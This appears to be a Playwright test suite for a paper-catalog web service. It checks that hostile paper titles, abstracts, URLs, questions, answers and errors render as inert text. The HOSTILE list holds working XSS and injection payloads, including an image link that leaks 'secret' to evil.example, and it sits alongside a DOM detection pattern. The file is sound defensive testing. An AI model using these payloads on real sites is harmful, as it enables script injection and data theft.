import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from service.library import Library
from service.settings import Settings
from tests.web.page.conftest import Open
from tests.web.page.watching import answer_with, document_from
from tests.web.serving import running, until_ready

HOSTILE = (
    "<script>window.executed=1</script>",
    "<img src=x onerror=window.executed=1>",
    "<svg/onload=window.executed=1>",
    "<iframe srcdoc='<script>parent.executed=1</script>'></iframe>",
    "<a href='javascript:window.executed=1'>click</a>",
    '"><script>window.executed=1</script>',
    "'-window.executed=1-'",
    "</title></textarea></style><script>window.executed=1</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.executed=1>",
    "<details open ontoggle=window.executed=1>",
    "<input autofocus onfocus=window.executed=1>",
    "<body onload=window.executed=1>",
    "<form action=javascript:window.executed=1><button>send</button></form>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "![picture](http://evil.example/?q=secret)",
    "[link](javascript:window.executed=1)",
    "{{constructor.constructor('window.executed=1')()}}",
    "${window.executed=1}",
    "&lt;img src=x onerror=window.executed=1&gt;",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<object data=javascript:window.executed=1></object>",
    "<template><script>window.executed=1</script></template>",
)
DAY = "2026-03-01"
# What no text may become: elements that the page does not make, handlers, addresses of other kinds or hosts.
SUSPICIOUS = """() => [...document.querySelectorAll("*")].filter((element) =>
  ["IFRAME", "IMG", "OBJECT", "EMBED", "BASE", "MATH", "TEMPLATE", "STYLE"].includes(element.tagName)
  || (element.tagName === "SCRIPT" && !element.src.startsWith(location.origin + "/static/"))
  || (element.tagName === "LINK" && !element.href.startsWith(location.origin + "/static/"))
  || [...element.attributes].some(({ name, value }) => name.startsWith("on")
    || (["href", "src", "action", "formaction", "srcdoc"].includes(name)
      && !["#", "/static/", "https://arxiv.org/"].some((beginning) => value.startsWith(beginning))))
).map((element) => element.outerHTML.slice(0, 200))"""


def record(number: int, text: str) -> dict[str, str]:
    return {
        "id": f"h{number}",
        "title": f"Attack {number}: {text}",
        "abstract": f"We study attack {number}. The payload is {text} and nothing else. Attacks of this kind fail.",
        "authors": f"{text.replace(',', ' ')}; Second Author",
        "categories": text,
        "url": "https://arxiv.org/abs/2306.00477" if number % 2 else "javascript:window.executed=1",
        "listed": DAY,
    }


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A service whose papers are attacks."""
    folder = tmp_path_factory.mktemp("hostile")
    file = folder / "papers.jsonl"
    file.write_text("\n".join(json.dumps(record(number, text)) for number, text in enumerate(HOSTILE)))
    with Library.open(Settings(home=folder / "home")) as library:
        assert library.ingest([file]).added == len(HOSTILE)
    with running(folder / "home") as run:
        until_ready(run)
        yield f"http://127.0.0.1:{run.port}"


def assert_harmless(page: Page) -> None:
    assert page.evaluate("window.executed") is None
    assert page.evaluate(SUSPICIOUS) == []


@pytest.mark.parametrize(
    ("fragment", "complete"),
    [
        ("#/ask", ".front-papers .paper-line"),
        ("#/search", ".results .paper-line"),
        ("#/search?q=attack", ".hit"),
        (f"#/days/{DAY}", ".lines .paper-line"),
        ("#/map", ".legend"),
        ("#/ask?q=which+papers+study+attacks?", ".answer:not(.writing)"),
    ],
)
def test_hostile_papers_stay_text_in_every_view(open_at: Open, hostile_site: str, fragment: str, complete: str) -> None:
    page = open_at(hostile_site, fragment).page
    expect(page.locator(complete).first).to_be_visible()
    assert_harmless(page)


def test_hostile_papers_stay_text_where_they_are_open(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site, "#/search").page
    for number, text in enumerate(HOSTILE):
        page.goto(f"{hostile_site}/#/search?paper=h{number}&quote={quote(text)}")
        expect(page.locator(".sheet-title")).to_contain_text(f"Attack {number}:")
        paper = page.request.get(f"/api/v1/papers/h{number}").json()
        assert page.locator(".sheet-title").text_content() == paper["title"]
        assert page.locator(".sheet-abstract p").first.text_content() == paper["abstract"]
        assert page.locator(".sheet a.outside").count() == (1 if number % 2 else 0)
        assert_harmless(page)


def test_an_address_that_is_not_of_the_web_is_no_link(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site, "#/search").page
    paper = page.request.get("/api/v1/papers/h1").json()
    for number, url in enumerate(
        (*HOSTILE, "javascript:window.executed=1", " JaVaScRiPt:1", "data:text/html,1", "//x.y")
    ):
        document_from(page, "papers/h1", paper | {"url": url})
        page.goto(f"{hostile_site}/#/search?paper=h1&quote=q{number}")
        expect(page.locator(".sheet-links")).to_have_text(url.strip())
        assert page.locator(".sheet-links a").count() == 0
        assert_harmless(page)
        page.unroute("**/api/v1/papers/h1")


def test_an_address_without_encryption_is_asked_for_with_it(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site, "#/search").page
    paper = page.request.get("/api/v1/papers/h1").json()
    document_from(page, "papers/h1", paper | {"url": "http://arxiv.org/abs/2306.00477"})
    page.goto(f"{hostile_site}/#/search?paper=h1")
    expect(page.locator(".sheet a.outside")).to_have_attribute("href", "https://arxiv.org/abs/2306.00477")


def test_hostile_summaries_and_topics_stay_text(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site, f"#/days/{DAY}").page
    page.get_by_role("button", name=f"Summarize all {len(HOSTILE)}").click()
    expect(page.get_by_text(f"{len(HOSTILE)} in one sentence each")).to_be_visible(timeout=60_000)
    for button in page.get_by_role("button", name="Abstract").all()[:6]:
        button.click()
    assert_harmless(page)
    page.get_by_role("link", name="Map").click()
    page.get_by_role("button", name="List", exact=True).click()
    page.locator(".map-topic summary").first.click()
    expect(page.locator(".map-list a").first).to_be_visible()
    assert_harmless(page)


def test_hostile_questions_stay_text(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site).page
    for text in HOSTILE:
        page.goto(f"{hostile_site}/#/ask?q={quote(text)}")
        expect(page.get_by_role("textbox", name="Your question")).to_have_value(text)
        expect(page.locator(".answer:not(.writing), .notice").first).to_be_visible()
        assert_harmless(page)


@pytest.mark.parametrize("kind", ["list", "factoid"])
def test_hostile_answers_stay_text(open_at: Open, hostile_site: str, kind: str) -> None:
    page = open_at(hostile_site).page
    for number, text in enumerate(HOSTILE):
        claim = {"text": text, "verdict": text, "citations": [1], "quotes": [{"paper_id": text, "text": text}]}
        provenance = {"engine": text, "mode": text, "seconds": 1, "searched": 1, "judged": 1, "listed": 1}
        papers = [{"marker": 1, "paper_id": text, "title": text, "score": 1}]
        answer = {
            "question": text, "text": text, "abstained": False, "kind": kind, "claims": [claim], "papers": papers,
            "provenance": provenance, "id": text,
        }  # fmt: skip
        answer_with(page, "ask", ("token", {"text": text}), ("claim", {"index": 0, "claim": claim}), ("answer", answer))
        page.goto(f"{hostile_site}/#/ask?q=attack+{number}")
        expect(page.locator(".answer:not(.writing) .claim-text")).to_contain_text(text)
        assert_harmless(page)
        page.unroute("**/api/v1/ask")


def test_hostile_errors_stay_text(open_at: Open, hostile_site: str) -> None:
    page = open_at(hostile_site).page
    for number, text in enumerate(HOSTILE):
        answer_with(page, "ask", ("error", {"status": 500, "title": text, "detail": text, "type": text}))
        page.goto(f"{hostile_site}/#/ask?q=attack+{number}")
        expect(page.get_by_role("alert")).to_contain_text(text)
        assert_harmless(page)
        page.unroute("**/api/v1/ask")


def test_an_empty_catalog_says_how_to_fill_it(open_at: Open, tmp_path: Path) -> None:
    with running(tmp_path / "home") as run:
        until_ready(run)
        site = f"http://127.0.0.1:{run.port}"
        for view in ("#/ask", "#/days", "#/search", "#/map", "#/ask?q=anything?"):
            page = open_at(site, view).page
            expect(page.get_by_role("heading", name="There are no papers yet")).to_be_visible()
            expect(page.locator(".command")).to_contain_text("paperboy ingest PATH")
